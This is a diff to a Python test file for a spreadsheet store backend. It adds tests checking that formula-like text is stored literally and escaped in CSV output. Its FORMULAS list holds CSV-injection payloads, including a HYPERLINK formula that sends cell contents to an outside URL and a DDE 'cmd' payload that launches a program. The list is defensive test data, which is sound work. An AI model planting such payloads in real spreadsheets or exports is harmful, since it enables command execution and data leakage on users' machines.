@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -32,6 +34,18 @@ TEXTS = [
     "+5",
     "1e3",
 ]
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://example.org/?" & A1, "prize")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "'=1+1",
+]
+"""Texts of members that a spreadsheet program would work out (OWASP: CSV Injection)."""
 
 
 def test_it_is_a_backend_with_a_name(store: Any) -> None:
@@ -70,6 +84,21 @@ async def test_every_text_is_written_and_read_back_exactly(store: Any, operation
     where = ("clans",) if operation == "append" else ("clans", "A4")
     await store.call(operation, "recruitment", *where, [TEXTS, TEXTS[::-1]])
     assert await store.read("clans") == [*CLANS, TEXTS, TEXTS[::-1]]
+
+
+async def test_no_text_becomes_a_formula(store: Any) -> None:
+    await store.call("append", "recruitment", "clans", [FORMULAS])
+    await store.call("update", "recruitment", "clans", "A5", [FORMULAS])
+    assert await store.read("clans") == [*CLANS, FORMULAS, FORMULAS], "a formula would show what it comes to"
+
+
+async def test_no_cell_of_a_file_begins_as_a_formula_does(workbook: Any, tmp_path: Path) -> None:
+    await workbook.call("append", "recruitment", "clans", [FORMULAS])
+    await workbook.call("update", "recruitment", "clans", "B2", [["-5", "+1,234.5"]])
+    with (tmp_path / "recruitment" / "clans.csv").open(newline="", encoding="utf-8") as file:
+        rows = list(csv.reader(file))
+    assert [cell[0] for cell in rows[-1]] == ["'"] * len(FORMULAS)
+    assert rows[1][1:] == ["-5", "+1,234.5"], "numbers stay numbers"
 
 
 async def test_rows_are_appended_after_the_last_one(store: Any) -> None:
